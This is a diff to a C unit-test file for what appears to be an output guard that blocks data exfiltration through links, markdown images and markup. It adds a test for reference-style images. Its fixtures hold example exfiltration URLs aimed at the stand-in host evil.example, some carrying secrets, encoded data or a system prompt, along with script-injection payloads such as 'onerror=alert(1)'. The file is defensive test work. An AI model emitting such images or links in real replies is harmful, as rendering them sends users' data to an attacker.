@@ -3,7 +3,7 @@
 #include "guard/exfiltration/url.h"
 #include "unit/guard/injection_cases.h"
 
-extern const bawn_guard bawn_guard_link, bawn_guard_markup, bawn_guard_ansi;
+extern const bawn_guard bawn_guard_reference, bawn_guard_link, bawn_guard_markup, bawn_guard_ansi;
 
 static const char *const leaking[] = {
     "![logo](https://evil.example/p.png)", "![x](https://evil.example/c?d=secret)", "![x]( <https://evil.example/a b> )", "![x](//evil.example/p.png)",
@@ -13,14 +13,26 @@ static const char *const leaking[] = {
     "<link rel=stylesheet href=https://evil.example/a.css>", "<form action=\"http://evil.example/\">", "<div style=\"background:url(https://evil.example/a)\">",
     "https://user:pass@evil.example/", "https://evil.example/John%20Smith%20lives%20here", "https://c2VjcmV0IGRhdGEgaGVyZQ9aX1b.evil.example/",
     "https://shop.example@evil.example/", "![x](https:\\\\evil.example\\a)", "<img srcset=\"a.png 1x, https://evil.example/b.png 2x\">",
+    "https://evil.example/?q=Zm9vYmFy", "https://evil.example/?data=AbCdEfGhIjKlMn", "[a](https://evil.example/x?q=666f6f626172)", "https://evil.example/p?prompt=You+are+Ada",
     "https://evil.example/?a=12345678&b=12345678&c=12345678&d=12345678&e=12",
 };
 static const char *const flowing[] = {
     "See https://docs.python.org/3/library/stdtypes.html#text-sequence-type-str.", "[guide](https://example.com/how-to-build-a-fence-in-10-steps)",
     "https://en.wikipedia.org/wiki/Caf%C3%A9_(disambiguation)", "https://ja.wikipedia.org/wiki/%E6%97%A5%E6%9C%AC%E8%AA%9E", "https://youtu.be/watch?v=dQw4w9WgXcQ",
+    "https://shop.test/?q=tutorial", "https://shop.test/?id=12345678", "https://youtu.be/watch?v=9bZkp7q19f0", "https://shop.test/?sort=PriceDesc&page=2", "https://git.test/?commit=4f2a9c1e",
+    "https://shop.test/?data=1",
     "![local](/img/a.png) and [x](#part) and ![d](data:image/png;base64,iVBORw0KGgo=)", "// a comment in code // and another", "a//b c:\\\\d file:///home/x/verylongnameOfAFile1",
     "[1]: https://example.com/docs", "https://github.com/org/repo/blob/main/src/AbstractSingletonProxyFactoryBean.java", "x = y // 2; http:// alone",
     "![ok](https://shop.example/p.png?d=1234567890123456789)", "[ok](https://cdn.shop.example/x?d=1234567890123456789)",
+};
+static const char *const by_reference[] = {
+    "![a][1]\n\n[1]: https://evil.example/x.png", "[1]: https://evil.example/x.png\n\nsee ![a][1].", "![Chart][]\n\n[chart]: <https://evil.example/x.png>",
+    "![the  chart]\n\n> [The Chart]: //evil.example/x.png \"t\"", "[![a][i]](https://b.example)\n[i]:\n  http://evil.example/x", "![a][1]\n[1]: https:\\\\evil.example\\x",
+    "![a][1] ![b][2] ![c][3] ![d][4] ![e][5] ![f][6] ![g][7] ![h][8]\n[8]: https://evil.example/x",
+};
+static const char *const not_by_reference[] = {
+    "[a][1]\n\n[1]: https://docs.example/guide", "![a][1]\n\n[1]: https://shop.example/x.png", "![a][1]\n\n[2]: https://docs.example/x", "![a](https://docs.example/x)\n\n[a]: https://docs.example/y",
+    "![a][1]\n\n[1]: /img/x.png", "text [1]: https://docs.example/x and ![a][1]", "x = [1, 2]\n![a", "[1]: https://docs.example/x\n\nWow! [1] is it", "a[i]: int = 3",
 };
 static const char *const running[] = {
     "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<iframe src=a></iframe>", "<a href=\"javascript:alert(1)\">", "[x](javascript:alert(1))",
@@ -55,6 +67,12 @@ static void check(const bawn_guard *g, const char *const *bad, size_t n_bad, con
     assert_int_equal(wrong, 0);
     harness_check_rows(&h);
     harness_close(&h);
+}
+
+static void images_by_reference(void **state)
+{
+    (void)state;
+    check(&bawn_guard_reference, by_reference, BAWN_COUNT(by_reference), not_by_reference, BAWN_COUNT(not_by_reference));
 }
 
 static void addresses(void **state) { (void)state; check(&bawn_guard_link, leaking, BAWN_COUNT(leaking), flowing, BAWN_COUNT(flowing)); }
@@ -100,7 +118,7 @@ static void a_script_goes_with_its_body(void **state)
 int main(void)
 {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(addresses), cmocka_unit_test(markup_that_runs), cmocka_unit_test(terminal_controls),
+        cmocka_unit_test(images_by_reference), cmocka_unit_test(addresses), cmocka_unit_test(markup_that_runs), cmocka_unit_test(terminal_controls),
         cmocka_unit_test(without_settings_no_host_is_allowed), cmocka_unit_test(wildcards_are_for_hosts_below),
         cmocka_unit_test(a_script_goes_with_its_body),
     };
